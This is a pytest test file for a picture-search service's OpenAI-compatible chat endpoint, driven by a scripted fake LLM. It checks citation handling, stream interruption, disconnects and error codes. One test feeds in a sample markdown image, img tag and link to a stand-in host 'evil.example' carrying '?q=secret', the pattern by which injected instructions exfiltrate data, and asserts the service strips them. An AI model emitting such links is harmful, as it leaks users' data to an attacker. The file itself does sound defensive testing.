"""Chats where a language model writes: what it says, how it fails, and who hangs up on it."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import openai
import pytest
from openai import OpenAI

from rag.settings import Settings
from tests.flows.desk import Desk, drawn, serving, stock, until
from tests.flows.openai_client import openai_client
from tests.flows.test_openai_chat import chat, said, whole_answer
from tests.services.llm import LlmServer, Turn, status, text
from tests.services.llm.turns import endless

MODEL = "picturedesk/default"


@pytest.fixture(scope="module")
def desk(tmp_path_factory: pytest.TempPathFactory, shared_llm: LlmServer) -> Iterator[Desk]:
    folder = tmp_path_factory.mktemp("llm-desk")
    settings = Settings(data=folder / "data", llm="scripted", llm_url=shared_llm.url)
    pictures = drawn(folder / "pictures", 6, size=200)
    stock(settings, pictures)
    with serving(settings) as desk:
        yield Desk(desk.url, folder, tuple(caption for _, caption in pictures))


@pytest.fixture
def llm(shared_llm: LlmServer) -> Iterator[LlmServer]:
    """The desk's LLM, to be told what to do."""
    yield shared_llm
    shared_llm.script = []


@pytest.fixture
def client(desk: Desk) -> Iterator[OpenAI]:
    with openai_client(desk) as client:
        yield client


def streamed(client: OpenAI, question: str, **options: Any) -> Any:
    messages: Any = [{"role": "user", "content": question}]
    return client.chat.completions.create(model=MODEL, messages=messages, stream=True, **options)


def content_of(chunks: Any) -> str:
    return "".join(chunk.choices[0].delta.content or "" for chunk in chunks)


def test_what_it_cites_and_what_it_makes_up_can_be_told_apart(client: OpenAI, desk: Desk, llm: LlmServer) -> None:
    llm.script = [text(f"{desk.captions[0]} ", "[1]. ", "It was sold ", "for a million [99].")]
    answered = chat(client, desk.captions[0])
    content = said(answered)
    assert content.startswith(f"{desk.captions[0]} [1]. It was sold for a million.")
    assert "> **Note:** Citations that no evidence has were removed: [99]." in content
    assert "does not bear this out: “It was sold for a million.”" in content
    cited = [one.url_citation for one in answered.choices[0].message.annotations or []]
    assert {content[one.start_index : one.end_index] for one in cited} == {"[1]"}
    assert content_of(streamed(client, desk.captions[0])).startswith(f"{desk.captions[0]} [1]. It was sold")


def test_an_answer_that_comes_to_a_limit_ends_with_length(client: OpenAI, desk: Desk, llm: LlmServer) -> None:
    llm.script = [text("A picture [1] and", finish="length")]
    assert chat(client, desk.captions[0]).choices[0].finish_reason == "length"
    *_, last = streamed(client, desk.captions[0])
    assert last.choices[0].finish_reason == "length"


def test_links_and_pictures_that_it_was_told_to_write_lead_nowhere(client: OpenAI, desk: Desk, llm: LlmServer) -> None:
    injected = "See ![x](https://evil.example/?q=secret) and <img src=//evil.example> [here](http://evil.example) [1]."
    llm.script = [text(*injected)]
    for content in (said(chat(client, desk.captions[0])), content_of(streamed(client, desk.captions[0]))):
        assert "[1]" in content
        assert "evil.example" not in content
        assert "![" not in content.partition("**Evidence**")[0]
        assert "<img" not in content


def test_what_broke_off_is_told_to_be_void_because_a_chat_cannot_take_it_back(
    client: OpenAI, desk: Desk, llm: LlmServer
) -> None:
    llm.script = [text("A zebra is seen on ", "the moon ", finish=None), status(500)]
    chunks = list(streamed(client, desk.captions[0]))
    content = content_of(chunks)
    shown, note, anew = content.partition("this text is void and the answer starts anew.")
    assert shown.startswith("A zebra is seen on")
    assert note
    assert desk.captions[0] in anew
    answer = next(whole_answer(chunk) for chunk in chunks if "picturedesk" in (chunk.model_extra or {}))
    assert "zebra" not in answer["answer"]
    history: Any = [
        {"role": "user", "content": desk.captions[0]},
        {"role": "assistant", "content": content},
        {"role": "user", "content": "And the others?"},
    ]
    before = len(llm.requests)
    llm.script = [text("Others [1].")]
    client.chat.completions.create(model=MODEL, messages=history)
    asked = str(llm.requests[before:])
    assert desk.captions[0] in asked
    assert "zebra" not in asked


def test_whoever_hangs_up_stops_it_and_the_ledger_says_so(client: OpenAI, desk: Desk, llm: LlmServer) -> None:
    llm.script = [Turn(pieces=endless("and a boat [1] "), between=0.02)]
    chunks = streamed(client, desk.captions[0])
    for chunk in chunks:
        if "boat" in (chunk.choices[0].delta.content or ""):
            break
    chunks.close()
    with desk.client() as http:

        def newest() -> dict[str, Any]:
            found = http.get("/v1/ledger/events", params={"limit": 1, "kind": "answer"}).json()["events"]
            return found[0]["body"] if found else {}

        until(lambda: "and a boat [1]" in newest().get("text", ""))
        body = newest()
    assert body["door"] == "openai"
    assert body["verdicts"]["stopped"] is True
    until(lambda: llm.open_lines == 0)


def test_in_strict_mode_an_llm_that_fails_is_a_server_error(client: OpenAI, desk: Desk, llm: LlmServer) -> None:
    strict = {"picturedesk": {"strict": True}}
    llm.script = [status(401)]
    with pytest.raises(openai.InternalServerError) as refused:
        chat(client, desk.captions[0], extra_body=strict)
    assert refused.value.status_code == 502
    assert refused.value.code == "llm_refused"
    with pytest.raises(openai.APIError) as broken:
        list(streamed(client, desk.captions[0], extra_body=strict))
    assert broken.value.code == "llm_refused"
